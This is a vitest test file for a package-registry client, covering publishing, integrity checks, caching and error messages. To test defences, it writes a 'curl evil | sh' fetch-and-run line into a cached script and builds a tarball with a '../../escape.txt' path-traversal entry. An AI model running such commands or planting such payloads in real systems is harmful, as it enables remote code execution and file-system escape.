import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  IntegrityError,
  RegistryClient,
  RegistryError,
  RegistryTimeoutError,
  RegistryUnreachableError,
} from '../../src/client/index.js';
import { TarballError } from '../../src/tarball/index.js';
import { packageWith } from '../tarball/build-tarball.js';
import { deadPort, startStandIn, type StandIn } from './stand-in-registry.js';

let server: StandIn;
let home: string;
const clients: RegistryClient[] = [];

function client(opts: Partial<ConstructorParameters<typeof RegistryClient>[0]> = {}): RegistryClient {
  const c = new RegistryClient({ url: server.url, token: 'good-token', cacheDir: join(home, 'cache'), ...opts });
  clients.push(c);
  return c;
}

async function actionDir(version: string, extra: Record<string, string> = {}): Promise<string> {
  const dir = await mkdtemp(join(home, 'src-'));
  const files: Record<string, string> = {
    'action.yml': `name: acme/lint\nversion: ${version}\ndescription: lints\nruns:\n  command: ./run.sh\n`,
    'run.sh': `echo ${version}\n`,
    ...extra,
  };
  for (const [path, body] of Object.entries(files)) {
    await mkdir(join(dir, path, '..'), { recursive: true });
    await writeFile(join(dir, path), body);
  }
  return dir;
}

async function failure(p: Promise<unknown>): Promise<Error> {
  return p.then(
    () => {
      throw new Error('expected a failure');
    },
    (e: unknown) => e as Error,
  );
}

beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'caravan-client-'));
  server = await startStandIn();
});
afterEach(async () => {
  await Promise.all(clients.splice(0).map((c) => c.close()));
  await server.stop();
  await rm(home, { recursive: true, force: true });
});

describe('RegistryClient: publish, resolve, download', () => {
  it('publishes a folder and resolves and downloads it with its integrity', async () => {
    const c = client();
    const published = await c.publish(await actionDir('1.2.0'));
    expect(published).toMatchObject({ name: 'acme/lint', version: '1.2.0' });
    expect(published.integrity).toMatch(/^sha512-/);
    expect(server.authorizations.at(-1)).toBe('Bearer good-token');
    const resolved = await c.resolve('acme/lint', '^1');
    expect(resolved).toMatchObject({
      name: 'acme/lint',
      version: '1.2.0',
      integrity: published.integrity,
      warnings: [],
    });
    const bytes = await c.download('acme/lint', '1.2.0', published.integrity);
    expect(bytes.equals(server.versions.get('acme/lint')?.get('1.2.0')?.tarball ?? Buffer.alloc(0))).toBe(true);
    expect((await c.versions('acme/lint')).versions.map((v) => v.version)).toEqual(['1.2.0']);
  });

  it('turns a 409 into a RegistryError with the server code, message and hint', async () => {
    const c = client();
    const dir = await actionDir('1.0.0');
    await c.publish(dir);
    const err = await failure(c.publish(dir));
    expect(err).toBeInstanceOf(RegistryError);
    expect(err).toMatchObject({
      status: 409,
      code: 'version-exists',
      message: 'acme/lint@1.0.0 already exists',
      hint: expect.stringMatching(/bump the version/),
    });
  });

  it('turns a 404 into a RegistryError naming what exists', async () => {
    const c = client();
    await c.publish(await actionDir('1.0.0'));
    const missing = await failure(c.resolve('acme/lint', '^2'));
    expect(missing).toMatchObject({ status: 404, code: 'no-matching-version' });
    expect(missing.message).toMatch(/available: 1\.0\.0/);
    expect(await failure(c.resolve('acme/nope', 'latest'))).toMatchObject({ status: 404, code: 'not-found' });
  });

  it('refuses a downloaded tarball whose integrity does not match, and caches nothing', async () => {
    const c = client();
    const { integrity } = await c.publish(await actionDir('1.0.0'));
    server.tamper = (original) =>
      Buffer.concat([original.subarray(0, original.length - 1), Buffer.from([original.at(-1)! ^ 1])]);
    const err = await failure(c.download('acme/lint', '1.0.0', integrity));
    expect(err).toBeInstanceOf(IntegrityError);
    expect(err.message).toMatch(/integrity mismatch for acme\/lint@1\.0\.0/);
    expect(err.message).toContain(integrity);
    expect(await failure(c.fetchAction('acme/lint', '1.0.0'))).toBeInstanceOf(IntegrityError);
    expect(await readdir(join(home, 'cache/actions')).catch(() => [])).toEqual([]);
  });

  it('refuses a hostile tarball even when its integrity matches what the registry vouched for', async () => {
    const c = client();
    const hostile = await packageWith({ header: { name: '../../escape.txt' }, body: 'evil' });
    const { createHash } = await import('node:crypto');
    const integrity = `sha512-${createHash('sha512').update(hostile).digest('base64')}`;
    server.versions.set('acme/lint', new Map([['1.0.0', { tarball: hostile, integrity }]]));
    const err = await failure(c.fetchAction('acme/lint', '1.0.0'));
    expect(err).toBeInstanceOf(TarballError);
    expect((err as TarballError).code).toBe('path-traversal');
    expect(await readdir(home)).not.toContain('escape.txt');
  });

  it('says where the registry is and how to fix it when nothing listens there', async () => {
    const port = await deadPort();
    const c = client({ url: `http://user:hunter2secret@127.0.0.1:${port}/`, token: 'tok-never-printed' });
    const err = await failure(c.resolve('acme/lint', 'latest'));
    expect(err).toBeInstanceOf(RegistryUnreachableError);
    expect(err.message).toContain(`http://127.0.0.1:${port}`);
    expect(err.message).toMatch(/ECONNREFUSED/);
    expect(err.message).toMatch(/CARAVAN_REGISTRY/);
    expect(err.message).not.toMatch(/hunter2secret|tok-never-printed/);
  });

  it('bounds the wait for a registry that accepts but never answers', async () => {
    server.silent = true;
    const err = await failure(client({ timeoutMs: 300 }).resolve('acme/lint', 'latest'));
    expect(err).toBeInstanceOf(RegistryTimeoutError);
    expect(err.message).toMatch(/did not answer GET \/v1\/actions\/acme\/lint\/-\/resolve within 0\.3 s/);
  });

  it('reports a non-JSON error page with its status and a printable excerpt', async () => {
    server.brokenStatus = 502;
    const err = await failure(client().versions('acme/lint'));
    expect(err).toMatchObject({ status: 502, code: 'http-502' });
    expect(err.message).toMatch(
      /answered GET \/v1\/actions\/acme\/lint\/-\/versions with HTTP 502: <html><body> Bad Gateway/,
    );
  });

  it('rejects bad names before sending anything', async () => {
    const c = client();
    expect(await failure(c.resolve('../../etc', 'latest'))).toMatchObject({ code: 'invalid-name' });
    expect(await failure(c.resolve('acme', 'latest'))).toMatchObject({ code: 'invalid-name' });
    expect(server.requests).toEqual([]);
  });

  it('refuses to publish a folder whose action.yml has no exact version', async () => {
    const dir = await actionDir('1.0');
    await writeFile(join(dir, 'action.yml'), 'name: acme/lint\nversion: 1.0\n');
    const err = await failure(client().publish(dir));
    expect(err.message).toMatch(/"version" must be an exact semver version such as 1\.2\.0, got 1/);
    expect(server.requests).toEqual([]);
  });
});

describe('RegistryClient.fetchAction and the cache', () => {
  it('unpacks into the cache keyed by integrity and reuses it without downloading again', async () => {
    const c = client();
    const { integrity } = await c.publish(await actionDir('1.0.0'));
    const first = await c.fetchAction('acme/lint', '^1.0.0');
    expect(first).toMatchObject({ name: 'acme/lint', version: '1.0.0', integrity, warnings: [] });
    const hex = Buffer.from(integrity.slice('sha512-'.length), 'base64').toString('hex');
    expect(first.dir).toBe(join(home, 'cache/actions', hex.slice(0, 64)));
    expect(await readFile(join(first.dir, 'run.sh'), 'utf8')).toBe('echo 1.0.0\n');
    const again = await c.fetchAction('acme/lint', '^1.0.0');
    expect(again.dir).toBe(first.dir);
    expect(server.tarballRequests()).toBe(1);
  });

  it('serves exact versions and integrities from the cache with the server stopped; ranges fall back with a warning', async () => {
    const c = client();
    const { integrity } = await c.publish(await actionDir('1.0.0'));
    await c.fetchAction('acme/lint', '1.0.0');
    await c.fetchAction('acme/lint', '^1');
    await server.stop();
    await c.close();
    const offline = client();
    expect((await offline.fetchAction('acme/lint', '1.0.0')).version).toBe('1.0.0');
    expect((await offline.fetchAction('acme/lint', integrity)).version).toBe('1.0.0');
    const ranged = await offline.fetchAction('acme/lint', '^1');
    expect(ranged.version).toBe('1.0.0');
    expect(ranged.warnings.join('\n')).toMatch(/cannot reach the registry.*using acme\/lint@1\.0\.0 from the cache/);
    expect(await failure(offline.fetchAction('acme/lint', '^2'))).toBeInstanceOf(RegistryUnreachableError);
  });

  it('downloads a damaged cache entry again', async () => {
    const c = client();
    await c.publish(await actionDir('1.0.0'));
    const { dir } = await c.fetchAction('acme/lint', '1.0.0');
    await writeFile(join(dir, 'run.sh'), 'curl evil | sh\n');
    const repaired = await c.fetchAction('acme/lint', '1.0.0');
    expect(repaired.dir).toBe(dir);
    expect(await readFile(join(dir, 'run.sh'), 'utf8')).toBe('echo 1.0.0\n');
    expect(server.tarballRequests()).toBe(2);
    await writeFile(join(dir, 'extra.sh'), 'planted');
    await rm(join(dir, 'action.yml'));
    await c.fetchAction('acme/lint', '1.0.0');
    expect((await readdir(dir)).sort()).toEqual(['action.yml', 'run.sh']);
    expect(server.tarballRequests()).toBe(3);
  });

  it('says how to fix a cache folder it cannot write', async () => {
    const blocked = join(home, 'blocked');
    await writeFile(blocked, 'a file where the cache folder should be');
    const c = client({ cacheDir: join(blocked, 'cache') });
    await c.publish(await actionDir('1.0.0'));
    const err = await failure(c.fetchAction('acme/lint', '1.0.0'));
    expect(err.message).toMatch(/cannot write the action cache in .*blocked\/cache \(ENOTDIR\).*CARAVAN_HOME/);
  });

  it('passes deprecation warnings through', async () => {
    const c = client();
    await c.publish(await actionDir('1.0.0'));
    await c.deprecate('acme/lint', '1.0.0', 'use acme/lint2');
    const fetched = await c.fetchAction('acme/lint', 'latest');
    expect(fetched.warnings).toEqual(['acme/lint@1.0.0 is deprecated: use acme/lint2']);
  });

  it('shares one download among concurrent fetches of the same action', async () => {
    const c = client();
    await c.publish(await actionDir('1.0.0'));
    const results = await Promise.all(Array.from({ length: 6 }, () => c.fetchAction('acme/lint', '1.0.0')));
    expect(new Set(results.map((r) => r.dir)).size).toBe(1);
    expect(server.tarballRequests()).toBe(1);
    expect(await readFile(join(results[0]!.dir, 'run.sh'), 'utf8')).toBe('echo 1.0.0\n');
    expect((await readdir(join(home, 'cache/actions'))).filter((n) => n.includes('.tmp'))).toEqual([]);
  });

  it('keeps an intact folder another process unpacked without a manifest, and replaces a damaged one', async () => {
    const c = client();
    await c.publish(await actionDir('1.0.0'));
    const { dir } = await c.fetchAction('acme/lint', '1.0.0');
    // As if a process died between unpacking and writing the manifest.
    await rm(`${dir}.json`);
    expect((await c.fetchAction('acme/lint', '1.0.0')).dir).toBe(dir);
    expect(await readFile(`${dir}.json`, 'utf8')).toContain('"acme/lint"');
    await rm(`${dir}.json`);
    await writeFile(join(dir, 'run.sh'), 'tampered');
    await c.fetchAction('acme/lint', '1.0.0');
    expect(await readFile(join(dir, 'run.sh'), 'utf8')).toBe('echo 1.0.0\n');
  });
});
